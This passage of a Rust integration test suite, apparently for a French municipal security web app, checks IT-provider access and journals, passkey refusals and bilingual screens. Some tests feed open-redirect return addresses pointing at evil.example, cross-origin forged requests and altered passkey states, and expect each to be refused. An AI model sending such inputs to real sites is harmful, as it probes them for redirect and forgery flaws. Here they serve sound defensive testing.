    assert_eq!(api["communes"][0]["fin"], serde_json::Value::Null);

    // The commune's administrator joins, and sees who supports the commune.
    let mut anne = accept(env, &link, "Anne Leroy", PASSWORD).await;
    let api = anne.get("/api/prestataire").await;
    assert_eq!(api.status, 200, "{}", api.body);
    let api: serde_json::Value = serde_json::from_str(&api.body).unwrap_or_default();
    assert_eq!(api["prestataire"]["nom"], "Infogérance Bourgogne");
    assert_eq!(
        api["prestataire"]["equipe"][0]["email"],
        "claire@infogerance-bourgogne.fr"
    );
    assert_eq!(
        anne.get("/api/communes").await.status,
        403,
        "not a provider"
    );
    let members = anne.get("/membres").await;
    assert_eq!(members.status, 200, "{}", members.body);
    assert!(members.shows("Votre prestataire informatique"));
    assert!(
        members.shows("Infogérance Bourgogne suit l'organisation depuis le"),
        "{}",
        members.body
    );
    assert!(members.shows("Claire Martin (claire@infogerance-bourgogne.fr)"));
    let member_table = members.between("id=\"t-membres\"", "</table>");
    assert!(
        member_table.contains("secretariat@mairie-semur.fr")
            && !member_table.contains("infogerance-bourgogne.fr"),
        "the provider's staff are not members: {member_table}"
    );

    // The provider's administrator works in the commune as prestataire; each visit is logged
    // in the commune's journal, and the commune's members are not theirs to manage.
    let csrf = boss.get("/").await.field("csrf");
    let switched = boss
        .post(
            "/organisation",
            &[("csrf", csrf.as_str()), ("org", commune.id.as_str())],
        )
        .await;
    assert_eq!(switched.status, 303, "{}", switched.body);
    let incidents = boss.get("/incidents").await;
    assert_eq!(incidents.status, 200, "{}", incidents.body);
    assert!(incidents.shows("Mairie de Semur"));
    assert_eq!(boss.get("/membres").await.status, 403);
    let csrf_boss = incidents.field("csrf");
    assert_eq!(
        boss.post(
            "/organisations/communes",
            &[
                ("csrf", csrf_boss.as_str()),
                ("commune", "Autre"),
                ("nom", "X"),
                ("email", "x@y.fr")
            ],
        )
        .await
        .status,
        403,
        "communes are added from the provider only"
    );
    let journal = anne.get("/journal-securite").await;
    assert!(
        journal.shows(
            "Commune créée et suivie par le prestataire informatique « Infogérance Bourgogne »"
        ),
        "{}",
        journal.body
    );
    assert!(
        journal.shows("Accès du prestataire : GET /incidents"),
        "{}",
        journal.body
    );

    // The commune ends the support: the box must be ticked; then the provider's staff are
    // refused at their next request, and both journals say so.
    let csrf_anne = members.field("csrf");
    let unticked = anne
        .post("/membres/prestataire/fin", &[("csrf", csrf_anne.as_str())])
        .await;
    assert_eq!(unticked.status, 400, "{}", unticked.body);
    assert!(boss.get("/incidents").await.status == 200, "still linked");
    let ended = anne
        .post(
            "/membres/prestataire/fin",
            &[("csrf", csrf_anne.as_str()), ("confirmer", "oui")],
        )
        .await;
    assert_eq!(ended.status, 303, "{}", ended.body);
    assert_eq!(ended.location(), "/membres");
    assert!(
        !anne
            .get("/membres")
            .await
            .shows("Votre prestataire informatique")
    );
    let api = anne.get("/api/prestataire").await;
    assert!(api.body.contains("\"prestataire\":null"), "{}", api.body);
    assert_eq!(boss.get("/incidents").await.status, 403);
    let journal = anne.get("/journal-securite").await;
    assert!(
        journal.shows("Fin du suivi par le prestataire informatique « Infogérance Bourgogne »")
    );
    let links = env
        .store
        .provider_links(&first_org_of(env, "claire@infogerance-bourgogne.fr").await)
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(links.len(), 1);
    assert_eq!(links[0].ended_by.as_deref(), Some("Anne Leroy"));
    // A commune's administrator cannot add communes either.
    let csrf_anne = anne.get("/").await.field("csrf");
    assert_eq!(
        anne.post(
            "/organisations/communes",
            &[
                ("csrf", csrf_anne.as_str()),
                ("commune", "Autre"),
                ("nom", "X"),
                ("email", "x@y.fr")
            ],
        )
        .await
        .status,
        403
    );
}

async fn provider_across_communes(env: &Env) {
    let (mut claire, _secret, _codes) = set_up(env).await;
    let (mut villeneuve, token) = other_org_admin(env).await;
    // Villeneuve's administrator invites Claire's existing account as its IT provider.
    let invited = villeneuve
        .post(
            "/membres/inviter",
            &[
                ("csrf", token.as_str()),
                ("nom", "Claire Martin"),
                ("email", "secretariat@mairie-saint-exemple.fr"),
                ("role", "prestataire"),
            ],
        )
        .await;
    assert_eq!(invited.status, 200, "{}", invited.body);
    let link = invited
        .between("data-testid=\"lien-invitation\">", "</code>")
        .replace("&#38;", "&")
        .replace("&amp;", "&");
    let path = link.trim_start_matches(&env.base).to_string();
    // Not signed in: told to sign in first; no second account can be made from the link.
    let anonymous = Browser::new(env).get(&path).await;
    assert_eq!(anonymous.status, 200);
    assert!(
        anonymous.shows("a déjà un compte Vigie"),
        "{}",
        anonymous.body
    );
    assert!(anonymous.shows("Connectez-vous d'abord"));
    assert!(!anonymous.body.contains("name=\"mot_de_passe\""));
    // Signed in as the invited account: one button.
    let page = claire.get(&path).await;
    assert!(
        page.shows("Rejoindre Mairie de Villeneuve"),
        "{}",
        page.body
    );
    let joined = claire
        .post(
            "/invitation/rejoindre",
            &[
                ("csrf", &page.field("csrf")),
                ("jeton", &page.field("jeton")),
            ],
        )
        .await;
    assert_eq!(joined.status, 303, "{}", joined.body);
    let home = claire.get("/").await;
    assert!(
        home.shows("Mairie de Villeneuve"),
        "works in Villeneuve now"
    );
    assert!(
        home.body.contains("action=\"/organisation\""),
        "the switcher"
    );
    let overview = claire.get("/organisations").await;
    assert_eq!(overview.status, 200, "{}", overview.body);
    assert!(overview.shows("Mairie de Saint-Exemple") && overview.shows("Mairie de Villeneuve"));
    assert!(overview.shows("Prestataire informatique") && overview.shows("Administrateur"));
    assert_eq!(
        Browser::new(env).get(&path).await.status,
        404,
        "the link is spent"
    );

    // Villeneuve's journal shows the provider's visits; Saint-Exemple's does not (Claire is its
    // administrator there).
    let journal = villeneuve.get("/journal-securite").await;
    assert!(
        journal.shows("a rejoint l'organisation comme Prestataire informatique (compte existant)"),
        "{}",
        journal.body
    );
    assert!(
        journal.shows("Accès du prestataire : GET /"),
        "{}",
        journal.body
    );
    assert!(
        journal.shows("Accès du prestataire : vue d'ensemble")
            || journal.shows("Accès du prestataire : GET /organisations")
    );

    // Back to Saint-Exemple; an organisation one is not a member of is « introuvable ».
    let ids = env
        .store
        .memberships(
            &env.store
                .user_by_email("secretariat@mairie-saint-exemple.fr")
                .await
                .unwrap_or_else(|e| panic!("{e}"))
                .unwrap_or_else(|| panic!("claire"))
                .id,
        )
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let saint_exemple = ids
        .iter()
        .find(|m| m.org_name == "Mairie de Saint-Exemple")
        .unwrap_or_else(|| panic!("membership"))
        .org_id
        .as_str()
        .to_owned();
    let csrf = claire.get("/").await.field("csrf");
    let back = claire
        .post("/organisation", &[("csrf", &csrf), ("org", &saint_exemple)])
        .await;
    assert_eq!(back.status, 303, "{}", back.body);
    let home = claire.get("/").await;
    assert!(
        home.body.contains("· Mairie de Saint-Exemple"),
        "{}",
        home.body
    );
    let nowhere = claire
        .post(
            "/organisation",
            &[
                ("csrf", &csrf),
                ("org", "00000000-0000-4000-8000-000000000000"),
            ],
        )
        .await;
    assert_eq!(nowhere.status, 404);
    let own = claire.get("/journal-securite").await;
    assert!(!own.shows("Accès du prestataire"), "{}", own.body);
}

// ---------------------------------------------------------------------------------------------
// Passkeys: what can be checked without an authenticator (the browser test registers and uses
// one, a virtual authenticator of Chromium).

async fn passkey_ceremonies(env: &Env) {
    let (mut b, _secret, codes) = set_up(env).await;
    let token = b.get("/compte").await.field("csrf");
    // Over an IP address, WebAuthn cannot work: said in French.
    let by_ip = b
        .post_json("/compte/cles/options", Some(&token), serde_json::json!({}))
        .await;
    assert_eq!(by_ip.status, 400, "{}", by_ip.body);
    assert!(by_ip.shows("pas avec une adresse IP"), "{}", by_ip.body);

    // By name (localhost): the creation options, for this account, and a sealed state.
    let named = env.base.replace("127.0.0.1", "localhost");
    let mut local = Browser {
        base: named.clone(),
        origin: Some(named.clone()),
        cookies: b.cookies.clone(),
        http: b.http.clone(),
    };
    let options = local
        .post_json("/compte/cles/options", Some(&token), serde_json::json!({}))
        .await;
    assert_eq!(options.status, 200, "{}", options.body);
    let v: serde_json::Value = serde_json::from_str(&options.body).unwrap_or_default();
    let public_key = &v["options"]["publicKey"];
    assert_eq!(public_key["rp"]["id"], "localhost");
    assert_eq!(
        public_key["user"]["name"],
        "secretariat@mairie-saint-exemple.fr"
    );
    assert!(
        public_key["challenge"]
            .as_str()
            .is_some_and(|c| c.len() >= 32)
    );
    let etat = v["etat"].as_str().unwrap_or_default().to_string();
    assert!(!etat.is_empty());

    // A state altered, or from another ceremony, is refused before any authenticator check.
    let forged = local
        .post_json(
            "/compte/cles",
            Some(&token),
            serde_json::json!({"nom": "x", "etat": format!("{etat}A"), "identifiant": {
                "id": "AAAA", "rawId": "AAAA", "type": "public-key", "extensions": {},
                "response": {"attestationObject": "AAAA", "clientDataJSON": "AAAA"}}}),
        )
        .await;
    assert_eq!(forged.status, 400, "{}", forged.body);
    assert!(
        forged.shows("a expiré ou ne vient pas de cette page"),
        "{}",
        forged.body
    );
    let garbage = local
        .post_json(
            "/compte/cles",
            Some(&token),
            serde_json::json!({"nom": "x", "etat": etat, "identifiant": {
                "id": "AAAA", "rawId": "AAAA", "type": "public-key", "extensions": {},
                "response": {"attestationObject": "AAAA", "clientDataJSON": "AAAA"}}}),
        )
        .await;
    assert_eq!(garbage.status, 400, "{}", garbage.body);
    assert!(garbage.shows("n'a pas été acceptée"), "{}", garbage.body);
    assert!(
        local
            .get("/compte")
            .await
            .shows("Aucune clé d'accès enregistrée")
    );

    // At sign-in, an account without passkeys is told to use its code; no state is given.
    let csrf = local.get("/").await.field("csrf");
    local.post("/deconnexion", &[("csrf", &csrf)]).await;
    let signin = local.get("/connexion").await;
    let pw = local
        .post(
            "/connexion",
            &[
                ("csrf", &signin.field("csrf")),
                ("email", "secretariat@mairie-saint-exemple.fr"),
                ("mot_de_passe", PASSWORD),
            ],
        )
        .await;
    assert_eq!(pw.location(), "/connexion/code");
    let page = local.get("/connexion/code").await;
    assert!(
        !page.body.contains("data-cle-connexion"),
        "no passkey offered"
    );
    let pending_token = page.field("csrf");
    let none = local
        .post_json(
            "/connexion/cle/options",
            Some(&pending_token),
            serde_json::json!({}),
        )
        .await;
    assert_eq!(none.status, 400, "{}", none.body);
    assert!(none.shows("Aucune clé d'accès"), "{}", none.body);
    // A passkey answer without any ceremony counts as nothing but a refusal.
    let blind = local
        .post_json(
            "/connexion/cle",
            Some(&pending_token),
            serde_json::json!({"etat": "rien", "identifiant": {
                "id": "AAAA", "rawId": "AAAA", "type": "public-key", "extensions": {},
                "response": {"authenticatorData": "AAAA", "clientDataJSON": "AAAA", "signature": "AAAA", "userHandle": null}}}),
        )
        .await;
    assert_eq!(blind.status, 400, "{}", blind.body);
    assert_eq!(
        local.get("/").await.location(),
        "/connexion",
        "still not signed in"
    );
    // The recovery code still works.
    let ok = local
        .post(
            "/connexion/code",
            &[("csrf", &pending_token), ("code", &codes[0])],
        )
        .await;
    assert_eq!(ok.location(), "/", "{}", ok.body);
}

// ---------------------------------------------------------------------------------------------
// The screens in English.

/// The findings of a mailbox check in the reader's language: the audit writes each finding in
/// French and English, the page shows the words of the interface's language, without a
/// `lang="fr"` mark on English words, and the French page keeps the French words.
async fn english_findings(env: &Env) {
    let dovecot = compromised_dovecot().await;
    let (mut b, _secret, _codes) = set_up(env).await;
    let path = add_mailbox(&mut b, &dovecot).await;
    // Waited for in French: `wait_for_check` recognises the French progress heading.
    let page = wait_for_check(&mut b, &path).await;
    let french_redirect = "Transfert automatique des messages vers une adresse extérieure";
    assert!(page.shows(french_redirect), "{}", page.body);
    assert!(page.body.contains("exposure.summary"), "the scan ran");

    let csrf = page.field("csrf");
    let switched = b
        .post(
            "/langue",
            &[("csrf", &csrf), ("langue", "en"), ("retour", &path)],
        )
        .await;
    assert_eq!(switched.status, 303, "{}", switched.body);
    assert_eq!(switched.location(), path);
    let page = b.get(&path).await;
    assert_eq!(page.status, 200, "{}", page.body);
    assert!(page.body.contains("<html lang=\"en\">"), "{}", page.body);
    // The Sieve finding, in English, and one of the audit's own findings (the exposure
    // headline: the fixture's one message holds an IBAN).
    assert!(
        page.body
            .contains("<h3>Messages automatically forwarded to an outside address</h3>"),
        "{}",
        page.body
    );
    assert!(
        page.body
            .contains("<h3>1 of 1 message contains information an attacker could use</h3>"),
        "{}",
        page.body
    );
    assert!(page.shows("Messages affected, by type — IBAN (bank details): 1"));
    assert!(
        page.shows(EXFILTRATION),
        "the target address is still named"
    );
    // No French words marked as such around the findings, and none left unmarked.
    assert!(!page.body.contains("<h3 lang=\"fr\">"), "{}", page.body);
    for french in [
        french_redirect,
        "contiennent des informations exploitables",
        "Messages concernés",
    ] {
        assert!(!page.shows(french), "{french}: {}", page.body);
    }
    let findings = page.between("<ol class=\"constats\">", "</ol>");
    assert!(!findings.contains("lang=\"fr\""), "{findings}");
    assert!(page.shows("Why:"), "{}", page.body);

    // Back to French: the French words, as before.
    let switched = b
        .post(
            "/langue",
            &[("csrf", &csrf), ("langue", "fr"), ("retour", &path)],
        )
        .await;
    assert_eq!(switched.status, 303, "{}", switched.body);
    let page = b.get(&path).await;
    assert!(page.body.contains("<html lang=\"fr\">"), "{}", page.body);
    assert!(page.shows(french_redirect), "{}", page.body);
    assert!(page.shows("1 message(s) sur 1 contiennent des informations exploitables"));
    assert!(!page.shows("Messages automatically forwarded to an outside address"));
    let findings = page.between("<ol class=\"constats\">", "</ol>");
    assert!(
        !findings.contains("lang="),
        "a French page marks nothing: {findings}"
    );
}

/// The incident screens in English: the playbook (title, steps) and the deadlines' names come
/// from the English playbook, without a `lang="fr"` mark; the journal stays as written (French,
/// marked); back in French, the French texts are shown as before.
async fn english_incident(env: &Env) {
    let (mut b, _secret, _codes) = set_up(env).await;
    let home = b.get("/").await;
    let csrf = home.field("csrf");
    let switched = b
        .post(
            "/langue",
            &[("csrf", &csrf), ("langue", "en"), ("retour", "/")],
        )
        .await;
    assert_eq!(switched.location(), "/");

    // The choice of playbook is offered in English.
    let form = b.get("/incidents/nouveau").await;
    assert!(
        form.body.contains(
            "<option value=\"compromission-messagerie\" selected>Hacked council mailbox</option>"
        ),
        "{}",
        form.body
    );
    assert!(
        !form
            .body
            .contains("<option value=\"faux-support\" lang=\"fr\"")
    );
    let discovered = (chrono::Utc::now() - chrono::Duration::hours(1))
        .with_timezone(&chrono_tz::Europe::Paris)
        .format("%Y-%m-%dT%H:%M")
        .to_string();
    let declared = b
        .post(
            "/incidents/nouveau",
            &[
                ("csrf", &csrf),
                ("playbook", "compromission-messagerie"),
                ("titre", "Messages disparus"),
                ("constate_le", &discovered),
                ("donnees_personnelles", "oui"),
            ],
        )
        .await;
    assert_eq!(declared.status, 303, "{}", declared.body);
    let location = declared.location().to_string();

    let incident = b.get(&location).await;
    assert_eq!(incident.status, 200);
    for html in [
        "<p class=\"intro\"><span>Hacked council mailbox</span>",
        "<strong>Cut off the attacker</strong>",
        "<strong>File a complaint</strong>",
        "<span class=\"libelle\">File a complaint (gendarmerie or police station)</span>",
        "<span class=\"libelle\">Notify the CNIL of the data breach</span>",
    ] {
        assert!(incident.body.contains(html), "{html}: {}", incident.body);
    }
    assert!(incident.shows("From a safe device, change the mailbox password"));
    assert!(incident.shows("The documents to send are written in French"));
    // The sheet's own guidance, first actions with their reason and the evidence to keep, in
    // the same language as its steps.
    for html in [
        "<h2 id=\"t-gestes\">First things to do</h2>",
        "<li><span>Write down the day and time you noticed the hacking, and what you saw.</span> <span class=\"pourquoi\"><strong>Why:</strong>",
        "<summary>What to keep for this kind of incident</summary>",
        "<strong>Screenshots and photos of the screen</strong>: <span>",
    ] {
        assert!(incident.body.contains(html), "{html}: {}", incident.body);
    }
    assert!(!incident.shows("This reflex sheet exists only in French"));
    // The journal is kept as it was written, in French (playbook title included), and marked
    // so; nothing else of the page is French.
    let (screen, journal) = incident
        .body
        .split_once("<ol class=\"journal\">")
        .unwrap_or_default();
    assert!(
        journal.contains("<span lang=\"fr\">Incident déclaré")
            && journal.contains("Piratage de la messagerie de la collectivité"),
        "{journal}"
    );
    for french in [
        "Piratage de la messagerie",
        "Conserver les preuves",
        "Déposer plainte",
        "<strong lang=\"fr\">",
        "<span class=\"libelle\" lang=\"fr\">",
    ] {
        assert!(!screen.contains(french), "{french}: {screen}");
    }

    let dashboard = b.get("/").await;
    for html in [
        "<span class=\"fiche\">(Hacked council mailbox)</span>",
        "<span class=\"libelle\">File a complaint (gendarmerie or police station)</span>",
        "<span>File a complaint</span>",
        "<span>Notify the CNIL</span>",
    ] {
        assert!(dashboard.body.contains(html), "{html}: {}", dashboard.body);
    }
    for french in [
        "Déposer plainte",
        "Notifier la CNIL",
        "Piratage de la messagerie",
    ] {
        assert!(
            !dashboard.body.contains(french),
            "{french}: {}",
            dashboard.body
        );
    }
    let list = b.get("/incidents").await;
    assert!(
        list.body.contains(
            "<span class=\"libelle\">File a complaint (gendarmerie or police station)</span>"
        ),
        "{}",
        list.body
    );

    // Back to French: the French texts, marked as before.
    let back = b
        .post(
            "/langue",
            &[("csrf", &csrf), ("langue", "fr"), ("retour", "/")],
        )
        .await;
    assert_eq!(back.location(), "/");
    let incident = b.get(&location).await;
    for html in [
        "<span lang=\"fr\">Piratage de la messagerie de la collectivité</span>",
        "<strong lang=\"fr\">Conserver les preuves</strong>",
        "<span class=\"libelle\" lang=\"fr\">Déposer plainte (gendarmerie ou commissariat)</span>",
    ] {
        assert!(incident.body.contains(html), "{html}: {}", incident.body);
    }
    assert!(!incident.body.contains("Hacked council mailbox"));
    assert!(!incident.body.contains("Cut off the attacker"));
    for html in [
        "<h2 id=\"t-gestes\">Premiers gestes</h2>",
        "<li><span lang=\"fr\">Notez le jour et l",
        "<summary>Ce qu",
    ] {
        assert!(incident.body.contains(html), "{html}: {}", incident.body);
    }
    assert!(incident.shows("Ce qu'il faut conserver pour ce type d'incident"));
    assert!(!incident.shows("Write down the day and time"));
    let dashboard = b.get("/").await;
    for html in [
        "<span class=\"fiche\" lang=\"fr\">(Piratage de la messagerie de la collectivité)</span>",
        "<span class=\"libelle\" lang=\"fr\">Déposer plainte (gendarmerie ou commissariat)</span>",
        "<span lang=\"fr\">Déposer plainte</span>",
    ] {
        assert!(dashboard.body.contains(html), "{html}: {}", dashboard.body);
    }
    assert!(!dashboard.body.contains("File a complaint"));
}

/// The screens in English: chosen by the browser's languages before any choice, then by the
/// switch at the bottom of every page (a cookie), which only goes back to addresses of this
/// site and passes the anti-forgery checks like every form; field messages and error pages
/// follow; the JSON API stays French.
async fn english_interface(env: &Env) {
    let english = "<html lang=\"en\">";
    let french = "<html lang=\"fr\">";

    // Before sign-in, the browser's preferences decide.
    let (mut b, _, _) = set_up(env).await;
    let mut visitor = Browser::new(env);
    let url = format!("{}/connexion", env.base);
    let page = visitor
        .send(
            visitor
                .http
                .get(&url)
                .header("accept-language", "en-GB,en;q=0.9"),
        )
        .await;
    assert_eq!(page.status, 200);
    assert!(page.body.contains(english), "{}", page.body);
    assert!(
        page.shows("E-mail address") && page.shows("Sign in"),
        "{}",
        page.body
    );
    assert!(!page.shows("Mot de passe"), "{}", page.body);
    let page = visitor
        .send(
            visitor
                .http
                .get(&url)
                .header("accept-language", "fr-FR,fr;q=0.9,en;q=0.5"),
        )
        .await;
    assert!(page.body.contains(french), "{}", page.body);
    assert!(page.shows("Adresse électronique") && page.shows("Langue de l'interface"));
    // A wrong password is refused in the page's language.
    let csrf = page.field("csrf");
    let refused = visitor
        .send(
            visitor
                .http
                .post(&url)
                .header("accept-language", "en")
                .form(&[
                    ("csrf", csrf.as_str()),
                    ("email", "personne@exemple.fr"),
                    ("mot_de_passe", "faux"),
                ]),
        )
        .await;
    assert_eq!(refused.status, 401);
    assert!(
        refused.shows("Wrong e-mail address or password."),
        "{}",
        refused.body
    );

    // The switch: a cookie like the session's, and back to the page it was sent from.
    let switched = visitor
        .post(
            "/langue",
            &[("csrf", &csrf), ("langue", "en"), ("retour", "/connexion")],
        )
        .await;
    assert_eq!(switched.status, 303, "{}", switched.body);
    assert_eq!(switched.location(), "/connexion");
    let cookie = switched.header("set-cookie");
    assert!(cookie.starts_with("vigie_langue=en;"), "{cookie}");
    assert!(
        cookie.contains("HttpOnly")
            && cookie.contains("SameSite=Strict")
            && cookie.contains("Path=/"),
        "{cookie}"
    );
    // The cookie wins over the browser's French preference.
    let page = visitor
        .send(
            visitor
                .http
                .get(&url)
                .header("accept-language", "fr-FR,fr;q=0.9"),
        )
        .await;
    assert!(
        page.body.contains(english) && page.shows("Sign in"),
        "{}",
        page.body
    );
    // Only local addresses are followed.
    for outside in [
        "//evil.example",
        "https://evil.example/",
        "/\\evil.example",
        "",
    ] {
        let sent = visitor
            .post(
                "/langue",
                &[("csrf", &csrf), ("langue", "en"), ("retour", outside)],
            )
            .await;
        assert_eq!(sent.status, 303, "{outside}");
        assert_eq!(sent.location(), "/", "{outside}");
    }
    // Like every form: no token, or another site, and nothing changes.
    let forged = visitor
        .post("/langue", &[("langue", "fr"), ("retour", "/connexion")])
        .await;
    assert_eq!(forged.status, 403);
    assert!(forged.header("set-cookie").find("vigie_langue").is_none());
    visitor.origin = Some("https://evil.example".into());
    let cross = visitor
        .post(
            "/langue",
            &[("csrf", &csrf), ("langue", "fr"), ("retour", "/")],
        )
        .await;
    visitor.origin = Some(env.base.clone());
    assert_eq!(cross.status, 403);
    // An unknown language changes nothing.
    let odd = visitor
        .post(
            "/langue",
            &[("csrf", &csrf), ("langue", "de"), ("retour", "/connexion")],
        )
        .await;
    assert_eq!(odd.location(), "/connexion");
    assert!(odd.header("set-cookie").find("vigie_langue").is_none());

    // Signed in: the switch is on every page too.
    let home = b.get("/").await;
    assert!(home.body.contains(french) && home.shows("Tableau de bord"));
    let csrf = home.field("csrf");
    assert_eq!(home.field("retour"), "/");
    let switched = b
        .post(
            "/langue",
            &[("csrf", &csrf), ("langue", "en"), ("retour", "/")],
        )
        .await;
    assert_eq!(switched.location(), "/");
    let home = b.get("/").await;
    assert!(home.body.contains(english), "{}", home.body);
    for text in [
        "<h1>Dashboard</h1>",
        "Open incidents",
        "Report an incident",
        "My account",
    ] {
        assert!(home.shows(text), "{text}: {}", home.body);
    }
    assert!(home.shows("No mailbox is monitored yet."), "{}", home.body);
    let mail = b.get("/messagerie").await;
    assert!(
        mail.body.contains(english) && mail.shows("<h1>Mail</h1>"),
        "{}",
        mail.body
    );
    assert!(mail.shows("Add a mailbox"));
    let list = b.get("/incidents").await;
    assert!(list.shows("No incident reported."), "{}", list.body);
    let account = b.get("/compte").await;
    for text in [
        "<h1>My account</h1>",
        "Sign out of all devices",
        "Administrator",
    ] {
        assert!(account.shows(text), "{text}: {}", account.body);
    }
    assert_eq!(account.field("retour"), "/compte");

    // Field messages in English; the API keeps answering in French.
    let refused = b
        .post(
            "/contacts",
            &[("csrf", &csrf), ("role", "inconnu"), ("nom", " ")],
        )
        .await;
    assert_field_errors(
        &refused,
        &[
            "The contact was not saved:",
            "Choose this contact's role from the list.",
            "Enter the name of the person or company (200 characters at most).",
        ],
    );
    assert!(!refused.shows("Choisissez le rôle"), "{}", refused.body);
    let api = b
        .post_json(
            "/api/contacts",
            Some(&csrf),
            serde_json::json!({"role": "inconnu", "nom": "x", "telephone": "01 02 03 04 05"}),
        )
        .await;
    assert_eq!(api.status, 422);
    assert!(
        api.body.contains("Choisissez le rôle de ce contact"),
        "{}",
        api.body
    );

    // An incident: the countdown is written in English, the playbook and the deadlines' names
    // too (details in `english_incident`).
    let discovered = (chrono::Utc::now() - chrono::Duration::hours(1))
        .with_timezone(&chrono_tz::Europe::Paris)
        .format("%Y-%m-%dT%H:%M")
        .to_string();
    let declared = b
        .post(
            "/incidents/nouveau",
            &[
                ("csrf", &csrf),
                ("playbook", "compromission-messagerie"),
                ("titre", "Messages disparus"),
                ("constate_le", &discovered),
            ],
        )
        .await;
    assert_eq!(declared.status, 303, "{}", declared.body);
    let incident = b.get(declared.location()).await;
    for text in [
        "<h2 id=\"t-delais\">Deadlines</h2>",
        "(Paris time)",
        "left",
        "(PDF, in French)",
        "The documents to send are written in French",
    ] {
        assert!(incident.shows(text), "{text}: {}", incident.body);
    }
    assert!(incident.body.contains("<span class=\"libelle\">"));
    assert!(!incident.body.contains("<strong lang=\"fr\">"));
    // Error pages too.
    let missing = b.get("/incidents/inexistant").await;
    assert_eq!(missing.status, 404);
    assert!(
        missing.body.contains(english) && missing.shows("Page not found"),
        "{}",
        missing.body
    );
    // The incident engine's sentence stays French, and says so.
    assert!(
        missing
            .body
            .contains("role=\"alert\" lang=\"fr\">Incident introuvable"),
        "{}",
        missing.body
    );
    let nowhere = b.get("/nulle-part").await;
    assert_eq!(nowhere.status, 404);
    assert!(nowhere.shows("Page or item not found"), "{}", nowhere.body);
    assert_eq!(nowhere.field("retour"), "/nulle-part");

    // And back to French.
    let back = b
        .post(
            "/langue",
            &[("csrf", &csrf), ("langue", "fr"), ("retour", "/compte")],
        )
        .await;
    assert_eq!(back.location(), "/compte");
    let account = b.get("/compte").await;
    assert!(account.body.contains(french) && account.shows("<h1>Mon compte</h1>"));
}

// ---------------------------------------------------------------------------------------------

macro_rules! on_both_backends {
    ($($scenario:ident),* $(,)?) => {
        mod sqlite {
            $(
                #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
                async fn $scenario() {
                    let env = super::sqlite_env().await;
                    super::$scenario(&env).await;
                    env.stop().await;
                }
            )*
        }
        mod postgres {
            $(
                #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
                async fn $scenario() {
                    let env = super::postgres_env().await;
                    super::$scenario(&env).await;
                    env.stop().await;
                }
            )*
        }
    };
}

on_both_backends!(
    setup_and_sign_in,
    throttling,
    csrf_origin_and_headers,
    unauthenticated_routes,
    incidents_and_isolation,
    mailbox_checks,
    every_route_is_tenant_scoped,
    members_and_roles,
    new_device_email,
    contacts_and_reflex_sheet,
    provider_across_communes,
    provider_supports_communes,
    passkey_ceremonies,
    concurrent_guesses,
    english_findings,
    english_incident,
    english_interface,
);
